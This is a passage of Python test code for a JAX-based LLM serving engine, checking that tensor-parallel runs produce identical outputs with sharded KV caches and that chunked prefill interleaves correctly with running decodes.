doubles as the driver (`python tests/test_tensor_parallel.py --driver`)
and prints one JSON verdict the tests assert on.
"""
import json
import os
import subprocess
import sys

import pytest


def _driver() -> dict:
    import jax
    import numpy as np

    from repro.configs import get_config, reduced
    from repro.launch.mesh import make_tp_mesh
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import Engine
    from repro.serving.sampling import SamplingParams

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    def pump(e, limit=2000):
        steps = 0
        while e.has_work():
            e.step()
            steps += 1
            assert steps < limit
        e.bm.check_invariants()

    def drive(tp):
        mesh = make_tp_mesh(tp) if tp > 1 else None
        kw = dict(max_num_seqs=3, max_model_len=96, block_size=8,
                  mesh=mesh, tp=tp if tp > 1 else None)
        res = {}

        # chunked prefill + block pressure (swap preemption + resume) +
        # greedy and seeded-sampled streams side by side
        e = Engine(cfg, params, prefill_chunk_size=8, num_blocks=10,
                   swap_blocks=32, **kw)
        rids = [
            e.submit(np.arange(1, 40),
                     SamplingParams(max_new_tokens=24)),
            e.submit(np.arange(50, 60),
                     SamplingParams(max_new_tokens=20, temperature=0.9,
                                    top_k=12, top_p=0.85, seed=11)),
            e.submit(np.arange(70, 90),
                     SamplingParams(max_new_tokens=16, temperature=0.7,
                                    seed=3)),
        ]
        pump(e)
        res["pressure"] = [list(map(int, e.requests[r].output))
                           for r in rids]
        res["swapped_seqs"] = int(e.bm.swap_stats.swap_in_seqs)
        res["compile_counts"] = e.compile_counts()

        # fork groups: one prefill, n seeded children sharing its blocks
        ef = Engine(cfg, params, num_blocks=24, **kw)
        g1 = ef.submit(np.arange(1, 30),
                       SamplingParams(max_new_tokens=10, temperature=0.8,
                                      n=2, best_of=2, seed=7))
        g2 = ef.submit(np.arange(40, 55),
                       SamplingParams(max_new_tokens=8, n=2, best_of=2))
        pump(ef)
        res["forks"] = [
            [list(map(int, r.output)) for r in ef.group_of(g).requests]
            for g in (g1, g2)]

        # per-device resident pool bytes on device 0
        dev0 = jax.devices()[0]
        resident = 0
        for leaf in jax.tree.leaves(e.cache):
            for sh in leaf.addressable_shards:
                if sh.device == dev0:
                    resident += sh.data.nbytes
        res["resident_bytes"] = int(resident)
        res["kv_block_bytes"] = e.kv_block_bytes()
        caps = e.capabilities()
        res["tp"] = caps["tp"]
        res["sharded_leaves"] = sorted(
            l["path"] for l in caps["leaves"] if l["shards"] > 1)
        return res

    out = {tp: drive(tp) for tp in (1, 2, 4)}
    # constructor validation needs a real multi-device mesh, so it runs
    # here rather than in the single-device pytest process
    mesh2 = make_tp_mesh(2)
    for key, kw in (("eager_rejected", dict(mesh=mesh2, fast_path=False)),
                    ("mismatch_rejected", dict(mesh=mesh2, tp=4))):
        try:
            Engine(cfg, params, **kw)
            out[key] = False
        except ValueError:
            out[key] = True
    return out


@pytest.fixture(scope="module")
def verdict():
    env = dict(os.environ,
               XLA_FLAGS="--xla_force_host_platform_device_count=4",
               PYTHONPATH=os.path.join(
                   os.path.dirname(os.path.dirname(
                       os.path.abspath(__file__))), "src"))
    out = subprocess.run(
        [sys.executable, os.path.abspath(__file__), "--driver"],
        env=env, capture_output=True, text=True, timeout=1200)
    assert out.returncode == 0, out.stderr[-4000:]
    raw = json.loads(out.stdout.splitlines()[-1])
    return {(int(k) if k.isdigit() else k): v for k, v in raw.items()}


@pytest.mark.parametrize("tp", [2, 4])
def test_outputs_bit_identical_across_tp(verdict, tp):
    base, got = verdict[1], verdict[tp]
    assert got["pressure"] == base["pressure"], \
        "greedy+sampled streams under chunked prefill and swap " \
        "preemption must not depend on the tp degree"
    assert got["forks"] == base["forks"]
    assert base["swapped_seqs"] >= 1 and got["swapped_seqs"] >= 1, \
        "the scenario must actually exercise swap-preemption resume"


@pytest.mark.parametrize("tp", [2, 4])
def test_compile_counts_stay_in_tp1_bucket_grid(verdict, tp):
    assert verdict[tp]["compile_counts"] == verdict[1]["compile_counts"]


def test_tp2_shards_kv_pools_halving_resident_bytes(verdict):
    base, got = verdict[1], verdict[2]
    assert got["sharded_leaves"], "tp=2 must shard the paged KV pools"
    assert got["resident_bytes"] <= 0.6 * base["resident_bytes"]
    assert got["kv_block_bytes"]["per_device"] * 2 == \
        base["kv_block_bytes"]["logical"]
    assert got["kv_block_bytes"]["logical"] == \
        base["kv_block_bytes"]["logical"], \
        "swap sizing stays logical: host blocks hold full blocks"


def test_tp4_replicates_when_kv_heads_dont_divide(verdict):
    """reduced() llama has 2 KV heads: at tp=4 the head-replication rule
    degrades the pools to replicated (no sharded leaves, full-size
    resident bytes) while outputs stay identical — graceful, not wrong."""
    got = verdict[4]
    assert got["sharded_leaves"] == []
    assert got["resident_bytes"] == verdict[1]["resident_bytes"]
    assert got["kv_block_bytes"]["per_device"] == \
        verdict[1]["kv_block_bytes"]["logical"]


def test_tp_constructor_validation(verdict):
    """A tensor mesh with the eager reference loop, or a tp that
    disagrees with the mesh, must fail loudly at construction."""
    assert verdict["eager_rejected"]
    assert verdict["mismatch_rejected"]


def test_tp_without_devices_fails_with_hint():
    """make_tp_mesh on a host with too few devices points the operator
    at the forced-host-device escape hatch instead of dying in jax."""
    from repro.launch.mesh import make_tp_mesh
    import jax
    n = len(jax.devices())
    with pytest.raises(RuntimeError, match="host_platform_device_count"):
        make_tp_mesh(n + 1)


def test_tp_kwarg_without_mesh_is_rejected():
    from repro.configs import get_config, reduced
    from repro.serving.engine import Engine
    with pytest.raises(ValueError, match="tp=2"):
        Engine(reduced(get_config("llama3.2-1b")), {}, tp=2)


if __name__ == "__main__" and "--driver" in sys.argv:
    print(json.dumps(_driver()))
