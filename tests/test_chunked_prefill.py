"""Chunked prefill: a long prompt admitted alongside running decodes must
not change anyone's tokens, and running sequences must keep receiving a
decode token between prefill chunks (bounded TTFT under monster prompts)."""
import numpy as np
import pytest

from repro.serving.engine import Engine, ReqState
from repro.serving.sampling import SamplingParams


@pytest.fixture(scope="module")
def llama():
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    cfg, params = llama
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 96)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


def test_chunk_size_rounds_up_to_block_multiple(llama):
    e = mk_engine(llama, prefill_chunk_size=10)
    assert e.prefill_chunk == 16              # 2 blocks of 8


def test_chunked_prefill_output_identical(llama):
    """A prompt split into 5 chunks must produce bit-identical greedy
    output to the single-shot prefill."""
    prompt = np.arange(1, 41)                 # 40 tokens, chunk = 8
    want = mk_engine(llama).generate(prompt, 6)
    got = mk_engine(llama, prefill_chunk_size=8).generate(prompt, 6)
    assert got == want


@pytest.mark.slow
def test_long_prefill_interleaves_with_decodes(llama):
    """Regression: while a 40-token prompt prefills in 8-token chunks, the
    already-running sequence must get exactly one decode token per engine
    step — the long admission never stalls it — and both outputs must
    match their solo runs."""
    short, long_ = np.arange(1, 6), np.arange(100, 140)
    want_short = mk_engine(llama).generate(short, 24)
    want_long = mk_engine(llama).generate(long_, 6)

    e = mk_engine(llama, prefill_chunk_size=8)
    r_short = e.submit(short, SamplingParams(max_new_tokens=24))
    e.step()
    e.step()
    r_long = e.submit(long_, SamplingParams(max_new_tokens=6))

    # 40 uncached tokens / 8-token chunks -> 5 steps of prefill work
    chunk_steps = 0
    while e.requests[r_long].prefilling or \
            e.requests[r_long].state == ReqState.WAITING:
        before = len(e.requests[r_short].output)
        e.step()
        chunk_steps += 1
        # the running sequence advanced during every prefill chunk
        assert len(e.requests[r_short].output) == before + 1
        assert chunk_steps < 20
    assert chunk_steps == 5
    # TTFT accounting: the long request's first token arrived only with
    # its final chunk — never earlier.  (The decode dispatched in that
    # same step is asynchronous and harvests at the start of the next
    # step, so exactly one token is visible here.)
    assert len(e.requests[r_long].output) == 1

    while e.has_work():
        e.step()
    assert e.requests[r_short].output == want_short
    assert e.requests[r_long].output == want_long
    e.bm.check_invariants()


def test_chunked_prefill_with_prefix_cache(llama):
    """Chunk boundaries stay block-aligned when the prefill starts from a
    cached (block-aligned) prefix."""
    shared = list(range(1, 25))               # 3 blocks
    p1 = np.array(shared + list(range(60, 76)))   # 40 tokens
    p2 = np.array(shared + list(range(80, 96)))   # same prefix, new tail
    want1 = mk_engine(llama).generate(p1, 5)
    want2 = mk_engine(llama).generate(p2, 5)

    e = mk_engine(llama, prefill_chunk_size=8)
    assert e.generate(p1, 5) == want1
    assert e.generate(p2, 5) == want2
    s = e.prefix_cache_stats()
    assert s["hit_tokens"] > 0                # second prompt hit the cache
    e.bm.check_invariants()


def test_chunking_works_with_caching_disabled(llama):
    """Chunked prefill only needs the paged pool — disabling the prefix
    cache must not silently disable the chunking the operator asked for."""
    e = mk_engine(llama, prefill_chunk_size=8,
                  enable_prefix_caching=False)
    assert e.prefill_chunk == 8 and not e.prefix_caching
    prompt = np.arange(1, 41)
    want = mk_engine(llama).generate(prompt, 6)
    assert e.generate(prompt, 6) == want
    assert e.prefix_cache_stats()["hit_tokens"] == 0


def test_unchunked_engines_are_unaffected(llama):
    """prefill_chunk_size=None (the default) keeps the old one-shot
    admission semantics: prompt prefilled and first token sampled within
    the admitting step."""
    e = mk_engine(llama)
    rid = e.submit(np.arange(1, 30), SamplingParams(max_new_tokens=4))
    e.step()
    assert len(e.requests[rid].output) >= 1
